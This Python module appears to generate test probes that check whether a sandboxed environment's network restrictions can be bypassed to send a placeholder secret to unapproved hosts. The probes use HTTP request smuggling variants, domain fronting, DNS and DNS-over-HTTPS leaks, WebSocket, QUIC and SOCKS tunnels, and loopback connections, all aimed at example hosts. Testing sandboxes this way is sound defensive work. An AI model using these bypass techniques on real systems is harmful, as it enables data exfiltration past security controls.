"""A hundred ways to carry something out of a desk that may read from two hosts, of seven kinds."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial

NAMED, BELOW, OTHER, INSIDE = "shop.example.org", "cdn.pages.example", "other.example.net", "inside.pages.example"
SCOPE = (NAMED, "*.pages.example")
_KEY = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
_WEBSOCKET = f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n{_KEY}"
_FRAME = b"\x81\x86\x00\x00\x00\x00secret"


@dataclass(frozen=True, slots=True)
class NetworkProbe:
    """One try: how, where to, and what; `data` may hold the place {port}."""

    kind: str
    way: str  # proxy (in a tunnel to `host`, or plain where that is empty), tcp, udp, abstract, resolve
    host: str
    data: bytes = b""
    port: int = 0
    server_name: str = ""

    def line(self) -> dict[str, object]:
        return {
            "way": self.way, "host": self.host, "port": self.port, "server_name": self.server_name,
            "data": base64.b64encode(self.data).decode(),
        }  # fmt: skip


def request(first: str, *fields: str, body: bytes = b"", host: str = NAMED) -> bytes:
    return "\r\n".join((f"{first} HTTP/1.1", f"Host: {host}", *fields, "", "")).encode("latin-1") + body


def with_length(first: str, body: bytes, *fields: str) -> bytes:
    return request(first, f"Content-Length: {len(body)}", *fields, body=body)


def probes(tcp: int, udp: int, abstract: str, own: str) -> list[NetworkProbe]:
    """Return all; `tcp` and `udp` are ports of servers outside, `own` an address of this computer."""
    return [
        *_posts(), *_changes(), *_websockets(), *_names(udp, own), *_quic(udp, own), *_smuggled(),
        *_direct(tcp, abstract, own),
    ]  # fmt: skip


def _posts() -> Iterator[NetworkProbe]:
    tunnel = partial(NetworkProbe, "POST", "proxy", NAMED)
    chunked = b"6\r\nsecret\r\n0\r\n\r\n"
    yield tunnel(with_length("POST /form", b"a=secret", "Content-Type: application/x-www-form-urlencoded"))
    yield tunnel(with_length("POST /json", b'{"a": "secret"}', "Content-Type: application/json"))
    yield tunnel(with_length("POST /graphql", b'{"query": "mutation {pay}"}', "Content-Type: application/json"))
    yield tunnel(
        with_length("POST /parts", b"--b\r\n\r\nsecret\r\n--b--", "Content-Type: multipart/form-data; boundary=b")
    )
    yield tunnel(request("POST /chunked", "Transfer-Encoding: chunked", body=chunked))
    yield tunnel(with_length("POST /empty?secret", b""))
    yield tunnel(request("POST /nothing?secret"))
    yield tunnel(with_length("POST /beacon", b"secret", "Content-Type: text/plain"))
    yield tunnel(with_length("GET /body", b"secret"))
    yield tunnel(request("GET /chunked", "Transfer-Encoding: chunked", body=chunked))
    yield tunnel(with_length("OPTIONS /body", b"secret"))
    yield tunnel(with_length("HEAD /body", b"secret"))
    yield tunnel(request("GET /a", "X-HTTP-Method-Override: POST"))
    yield tunnel(with_length("post /small", b"secret"))
    yield tunnel(request("GET /first") + with_length("POST /second", b"secret"))
    yield NetworkProbe("POST", "proxy", "", with_length(f"POST http://{NAMED}/plain", b"secret"))


def _changes() -> Iterator[NetworkProbe]:
    tunnel = partial(NetworkProbe, "PUT, DELETE, PATCH", "proxy", NAMED)
    for method in ("PUT", "PATCH", "MKCOL", "PROPPATCH", "REPORT", "SEARCH"):
        yield tunnel(with_length(f"{method} /file", b"secret"))
    for method in ("DELETE", "MOVE", "COPY", "PURGE", "UNLOCK", "LINK", "Delete"):
        yield tunnel(request(f"{method} /file"))
    yield NetworkProbe("PUT, DELETE, PATCH", "proxy", "", request(f"DELETE http://{NAMED}/file"))


def _websockets() -> Iterator[NetworkProbe]:
    kind = "websocket"
    tunnel = partial(NetworkProbe, kind, "proxy", NAMED)
    yield tunnel(request("GET /socket", _WEBSOCKET) + _FRAME)
    yield tunnel(request("GET /socket", _WEBSOCKET.lower()) + _FRAME)
    yield tunnel(request("GET /socket", _WEBSOCKET.replace("Upgrade\r\n", "keep-alive, Upgrade\r\n")) + _FRAME)
    yield tunnel(request("GET /socket", _WEBSOCKET.replace("websocket", "WebSocket/13, x")) + _FRAME)
    yield tunnel(request("GET /socket", _WEBSOCKET.replace(": websocket", ":websocket")) + _FRAME)
    yield tunnel(request("GET /socket", _WEBSOCKET.replace("Connection: Upgrade\r\n", "")) + _FRAME)
    yield tunnel(request("GET /socket", _KEY) + _FRAME)
    yield tunnel(
        request("GET /socket", "Connection: Upgrade", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__") + _FRAME
    )
    yield tunnel(request("OPTIONS /socket", "Connection: Upgrade", "Upgrade: TLS/1.2") + _FRAME)
    yield tunnel(request("CONNECT /socket", ":protocol: websocket") + _FRAME)
    yield tunnel(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield NetworkProbe(kind, "proxy", "", request(f"GET http://{NAMED}/socket", _WEBSOCKET) + _FRAME)
    yield NetworkProbe(kind, "proxy", "", request(f"GET ws://{NAMED}/socket", _WEBSOCKET) + _FRAME)
    connect = request(f"CONNECT {NAMED}:80")
    yield NetworkProbe(kind, "proxy", "", connect + request("GET /socket", _WEBSOCKET) + _FRAME)


def _names(udp: int, own: str) -> Iterator[NetworkProbe]:
    kind = "DNS, UDP"
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06secret\x07example\x03org\0\0\1\0\1"
    for host in (
        "127.0.0.1",
        own,
        "255.255.255.255",
        "127.255.255.255",
        "127.0.0.53",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
    ):
        yield NetworkProbe(kind, "udp", host, question, udp)
    yield NetworkProbe(kind, "resolve", f"secret.{OTHER}")
    yield NetworkProbe(kind, "resolve", "localhost.localdomain.secret.example.org")
    doh = with_length("POST /dns-query", question, "Content-Type: application/dns-message")
    yield NetworkProbe(kind, "proxy", NAMED, doh)
    yield NetworkProbe(kind, "proxy", OTHER, doh.replace(NAMED.encode(), OTHER.encode()))
    yield NetworkProbe(kind, "proxy", OTHER, request("GET /dns-query?dns=secret", host=OTHER))
    yield NetworkProbe(kind, "proxy", "", request("CONNECT 127.0.0.53:53"))


def _quic(udp: int, own: str) -> Iterator[NetworkProbe]:
    kind = "QUIC"
    initial = b"\xc3\0\0\0\1\x08secret!!\0\0\x44\x9e" + bytes(1180)
    negotiation = b"\x80\x1a\x2a\x3a\x4a" + initial[5:]
    masque = f"/.well-known/masque/udp/{own}/{udp}/"
    for host in ("127.0.0.1", own, "::1", "::ffff:127.0.0.1", "0.0.0.0"):
        yield NetworkProbe(kind, "udp", host, initial, udp)
        yield NetworkProbe(kind, "udp", host, negotiation, udp)
    capsule = b"\0\x07\0secret"
    fields = ("Connection: Upgrade", "Upgrade: connect-udp", "Capsule-Protocol: ?1")
    yield NetworkProbe(kind, "proxy", NAMED, request(f"GET {masque}", *fields) + capsule)
    yield NetworkProbe(kind, "proxy", "", request(f"GET http://{NAMED}{masque}", *fields) + capsule)
    yield NetworkProbe(kind, "proxy", "", b"\x05\x01\x00" + b"\x05\x03\x00\x01\x7f\0\0\1" + udp.to_bytes(2, "big"))
    yield NetworkProbe(kind, "proxy", "", request(f"CONNECT {NAMED}:443", "Protocol: h3") + initial)


def _smuggled() -> Iterator[NetworkProbe]:
    tunnel = partial(NetworkProbe, "fronting, smuggling", "proxy", NAMED)
    hidden = with_length("POST /hidden", b"secret")
    chunked, length = "Transfer-Encoding: chunked", f"Content-Length: {len(hidden)}"
    yield tunnel(request("GET /", host=OTHER))
    yield tunnel(request("GET /", f"Host: {OTHER}"))
    yield tunnel(request("GET /", f"X-Forwarded-Host: {OTHER}", "X-HTTP-Method: DELETE"))
    yield tunnel(request(f"GET https://{OTHER}/"))
    yield NetworkProbe("fronting, smuggling", "proxy", NAMED, request("GET /", host=OTHER), server_name=OTHER)
    yield NetworkProbe("fronting, smuggling", "proxy", "", request(f"GET http://{OTHER}/"))
    yield tunnel(request("GET /", chunked, length, body=b"0\r\n\r\n" + hidden))
    yield tunnel(request("GET /", "Transfer-Encoding : chunked", length, body=b"0\r\n\r\n" + hidden))
    yield tunnel(request("GET /", "Transfer-Encoding: x\r\n chunked", body=b"0\r\n\r\n" + hidden))
    yield tunnel(request("GET /", "Transfer-Encoding: xchunked", body=b"0\r\n\r\n" + hidden))
    yield tunnel(request("GET /", "Content-Length: 0", length, body=hidden))
    yield tunnel(request("GET /", "Content-Length: 0, 0", body=hidden))
    yield tunnel(request("GET /", "Content-Length: -0", body=hidden))
    yield tunnel(b"GET / HTTP/1.1\nHost: " + NAMED.encode() + b"\n\n" + hidden)
    yield tunnel(request("GET /", "X: a\nContent-Length: 6", body=b"secret"))
    yield tunnel(request("GET / HTTP/1.1\r\nX: y", body=hidden))


def _direct(tcp: int, abstract: str, own: str) -> Iterator[NetworkProbe]:
    kind = "direct, private"
    post = with_length("POST /direct", b"secret")
    for host in ("127.0.0.1", own, "::ffff:127.0.0.1", "0.0.0.0", "127.1"):
        yield NetworkProbe(kind, "tcp", host, post, tcp)
    yield NetworkProbe(kind, "abstract", abstract, post)
    for host in ("127.0.0.1", "[::1]", "0x7f000001", own):
        yield NetworkProbe(kind, "proxy", "", request(f"CONNECT {host}:{tcp}") + post)
    yield NetworkProbe(kind, "proxy", "", with_length(f"POST http://127.0.0.1:{tcp}/direct", b"secret"))
    yield NetworkProbe(kind, "proxy", INSIDE, request("GET /secret", host=INSIDE))  # leads to 127.0.0.1
    yield NetworkProbe(kind, "proxy", "", request(f"GET http://{INSIDE}/secret", host=INSIDE))
    yield NetworkProbe(kind, "proxy", OTHER, request("GET /secret", host=OTHER))
